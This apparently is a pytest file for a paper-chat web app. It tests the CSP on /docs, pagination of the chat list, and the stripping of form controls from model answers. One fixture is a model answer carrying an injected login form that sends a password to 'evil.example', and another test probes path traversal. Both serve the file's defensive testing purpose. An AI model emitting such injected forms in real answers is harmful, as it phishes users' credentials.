"""Issue 13 hardening: /docs served from the app itself under its CSP, form controls kept out of
rendered answers, saved steps keep their thought, and chat lists come in pages."""

from __future__ import annotations

import json
import os
import re
import uuid
from html.parser import HTMLParser
from pathlib import Path

from fastapi.testclient import TestClient

from tests.scripted_model import ScriptedModel, step
from tests.web import COLLECT_CSP_VIOLATIONS, CSRF, ask, live_server, sign_up

ARTIFACTS = Path(os.environ.get("CHATPAPERS_TEST_ARTIFACTS", Path(__file__).parents[2] / "test-artifacts"))


def name(prefix: str) -> str:
    return f"{prefix}-{uuid.uuid4().hex[:8]}"


class _Assets(HTMLParser):
    """The URLs a page loads (script src, link href) and the text of its inline scripts/styles."""

    def __init__(self) -> None:
        super().__init__()
        self.urls: list[str] = []
        self.inline: list[str] = []
        self._in: str | None = None

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "script" and a.get("src"):
            self.urls.append(a["src"])
        elif tag == "link" and a.get("href"):
            self.urls.append(a["href"])
        elif tag in ("script", "style"):
            self._in = tag
        if a.get("style") or any(k.startswith("on") for k in a):
            self.inline.append(f"<{tag}> attribute")

    def handle_endtag(self, tag):
        if tag == self._in:
            self._in = None

    def handle_data(self, data):
        if self._in and data.strip():
            self.inline.append(data)


# ---------------------------------------------------------------- 1. /docs under the CSP
def test_docs_page_loads_only_its_own_files(make_app) -> None:
    client = TestClient(make_app())
    page = client.get("/docs")
    assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
    assert "script-src 'self'" in page.headers["content-security-policy"]
    found = _Assets()
    found.feed(page.text)
    assert found.inline == []
    assert any(u.endswith("swagger-ui-bundle.js") for u in found.urls), found.urls
    assert any(u.endswith(".css") for u in found.urls), found.urls
    for url in found.urls:
        assert url.startswith("/") and not url.startswith("//"), url  # same origin
        res = client.get(url)
        assert res.status_code == 200, url
    assert client.get("/docs/assets/../../app.py").status_code == 404
    assert client.get("/docs/assets/index.html").status_code == 404  # only the files the page needs
    assert client.get("/redoc").status_code == 404

    # the bundled Swagger UI reads OpenAPI 3.0: it gets the same schema written as 3.0
    native, for_docs = client.get("/openapi.json").json(), client.get("/docs/openapi.json").json()
    assert native["openapi"].startswith("3.1") and for_docs["openapi"] == "3.0.3"
    assert set(for_docs["paths"]) == set(native["paths"])
    assert '{"type": "null"}' not in json.dumps(for_docs) and '"nullable": true' in json.dumps(for_docs)
    assert "/docs" not in client.get("/openapi.json").json()["paths"]


def _watch(page) -> list[str]:
    """The page's console errors as they happen; its CSP violations collect in `window.__csp`."""
    errors: list[str] = []

    def console(message) -> None:
        # (the chat page has no icon: the browser's own request for one answers 404)
        if message.type == "error" and not message.location.get("url", "").endswith("/favicon.ico"):
            errors.append(message.text)

    page.on("console", console)
    page.on("pageerror", lambda exc: errors.append(str(exc)))
    page.add_init_script(COLLECT_CSP_VIOLATIONS)
    return errors


def test_docs_render_in_a_browser_without_csp_violations(make_app, browser) -> None:
    from playwright.sync_api import expect

    with live_server(make_app()) as url:
        page = browser.new_page(viewport={"width": 1280, "height": 900})
        errors = _watch(page)
        page.goto(f"{url}/docs")
        expect(page.locator(".swagger-ui .info .title")).to_contain_text("chatpapers")
        messages = page.locator(".opblock-summary-path", has_text="/api/chats/{chat_id}/messages")
        expect(messages.first).to_be_visible()
        assert page.locator(".opblock").count() >= 10
        page.locator(".opblock-get .opblock-summary-path", has_text=re.compile(r"^/api/chats$")).click()
        expect(page.locator(".parameters-col_name", has_text="before")).to_be_visible()
        ARTIFACTS.mkdir(parents=True, exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / "docs.png"))
        violations = page.evaluate("window.__csp")
        page.close()
    assert violations == [], violations
    assert errors == []  # Chromium logs a CSP violation as a console error too


# ---------------------------------------------------------------- 2. no form controls in answers
def test_answer_html_cannot_render_form_controls(make_app, browser) -> None:
    from playwright.sync_api import expect

    model = ScriptedModel(
        [
            step("final_answer", thought="The abstract answers it"),
            "**Residual learning** makes deep networks trainable [1].\n\n"
            '<form action="https://evil.example/"><input type="password" name="p">'
            '<button formaction="https://evil.example/b">Log in</button><textarea>t</textarea>'
            "<select><option>x</option></select></form>\n\nSign in again to continue.",
        ]
    )
    with live_server(make_app(model=model)) as url:
        page = browser.new_page(viewport={"width": 1280, "height": 800})
        errors = _watch(page)
        page.goto(url)
        page.fill("#username", name("forms"))
        page.fill("#password", "a long password")
        page.click("#register-btn")
        expect(page.locator("#app-view")).to_be_visible()
        page.locator("#question").fill("What problem do deep residual networks solve?")
        page.locator("#question").press("Enter")
        answer = page.locator(".msg.assistant .answer").first
        expect(answer.locator("strong")).to_have_text("Residual learning")
        expect(answer).to_contain_text("Sign in again to continue.")
        for tag in ("form", "input", "button", "textarea", "select", "option"):
            assert answer.locator(tag).count() == 0, tag
        assert "evil.example" not in answer.inner_html()
        # the text above can come from the streamed tokens: wait for the final event (the answer is
        # saved before it), else the reload may come before the answer is saved
        expect(page.locator(".msg.assistant .meta")).to_contain_text("scripted")

        # reopened, the saved steps show their thought
        page.reload()
        expect(page.locator(".msg.assistant .answer strong")).to_have_text("Residual learning")
        assert page.locator(".msg.assistant .answer form, .msg.assistant .answer input").count() == 0
        expect(page.locator(".steps .step").first).to_contain_text(re.compile(r"Thought: \S"))
        page.close()
    assert errors == []


# ---------------------------------------------------------------- 3. saved steps keep their thought
def test_reopened_messages_carry_each_steps_thought(make_app) -> None:
    model = ScriptedModel(
        [
            step("search", thought="Highway networks came first", query="highway networks", k=3),
            step("final_answer", thought="Enough evidence"),
            "Residual learning makes very deep networks trainable [1].",
        ]
    )
    client = TestClient(make_app(model=model, reader="agent"))  # the model's own steps and thoughts
    token = sign_up(client, name("thought"))
    chat_id = client.post("/api/chats", json={}, headers={CSRF: token}).json()["chat_id"]
    events = ask(client, chat_id, token, "What problem do deep residual networks solve?")
    streamed = [d["thought"] for k, d in events if k == "step_started"]
    assert len(streamed) == 2 and streamed[1] == "Highway networks came first"
    assert all(streamed)

    answer = client.get(f"/api/chats/{chat_id}/messages").json()["messages"][1]
    assert [s["thought"] for s in answer["steps"]] == streamed
    assert [s["tool"] for s in answer["steps"]] == ["search", "search"]


# ---------------------------------------------------------------- 4. chat lists in pages
def test_chat_list_pages(make_app, corpus_copy) -> None:
    client = TestClient(make_app())
    token = sign_up(client, name("pager"))
    ids = []
    for i in range(120):
        res = client.post("/api/chats", json={"title": f"chat {i}"}, headers={CSRF: token})
        assert res.status_code == 201
        ids.append(res.json()["chat_id"])
    with corpus_copy.connect() as conn:
        # ties on updated_at across a page boundary: the chat id breaks them
        conn.execute(
            "UPDATE chats SET updated_at = '2024-05-01T12:00:00Z' WHERE chat_id = ANY(%s::uuid[])",
            (ids[30:80],),
        )
        conn.commit()
        expected = [
            str(r[0])
            for r in conn.execute(
                "SELECT chat_id FROM chats WHERE chat_id = ANY(%s::uuid[])"
                " ORDER BY updated_at DESC, chat_id DESC",
                (ids,),
            )
        ]

    pages, cursor = [], None
    while True:
        res = client.get("/api/chats", params={"before": cursor} if cursor else {})
        assert res.status_code == 200
        pages.append([c["chat_id"] for c in res.json()])
        cursor = res.headers.get("X-Next-Cursor")
        if not cursor:
            break
        assert len(pages) < 5
    assert [len(p) for p in pages] == [50, 50, 20]
    assert [c for p in pages for c in p] == expected  # no duplicates, no gaps, newest first

    full = client.get("/api/chats", params={"limit": 200})
    assert [c["chat_id"] for c in full.json()] == expected and "X-Next-Cursor" not in full.headers
    small = client.get("/api/chats", params={"limit": 7})
    assert [c["chat_id"] for c in small.json()] == expected[:7]
    rest = client.get("/api/chats", params={"limit": 200, "before": small.headers["X-Next-Cursor"]})
    assert [c["chat_id"] for c in rest.json()] == expected[7:]

    for params in (
        {"limit": 0},
        {"limit": 1000},
        {"limit": "many"},
        {"before": "garbage"},
        {"before": ""},
        {"before": "x" * 5000},
        {"before": "MjAyNC0wNS0wMVQxMjowMDowMCswMDowMH5ub3QtYS11dWlk"},  # a date and no uuid
    ):
        res = client.get("/api/chats", params=params)
        assert res.status_code == 422, (params, res.text)
        assert res.headers["content-type"].startswith("application/json") and "detail" in res.json()


def test_sidebar_loads_more_chats(make_app, browser) -> None:
    from playwright.sync_api import expect

    with live_server(make_app()) as url:
        page = browser.new_page(viewport={"width": 1280, "height": 800})
        errors = _watch(page)
        page.goto(url)
        page.fill("#username", name("many"))
        page.fill("#password", "a long password")
        page.click("#register-btn")
        expect(page.locator("#app-view")).to_be_visible()
        page.evaluate(
            """async () => {
                const { csrf_token } = await (await fetch("/api/auth/session")).json();
                for (let i = 0; i < 110; i++) {
                    await fetch("/api/chats", { method: "POST", body: JSON.stringify({ title: `chat ${i}` }),
                        headers: { "Content-Type": "application/json", "X-CSRF-Token": csrf_token } });
                }
            }"""
        )
        page.reload()
        chats = page.locator("#chat-list li")
        expect(chats).to_have_count(50)
        expect(chats.first).to_contain_text("chat 109")
        more = page.locator("#more-chats")
        expect(more).to_be_visible()
        page.locator("#chat-list").evaluate("list => { list.scrollTop = list.scrollHeight; }")
        expect(chats).to_have_count(100)
        more.click()
        expect(chats).to_have_count(110)
        expect(chats.last).to_contain_text("chat 0")
        expect(more).to_be_hidden()
        page.close()
    assert errors == []
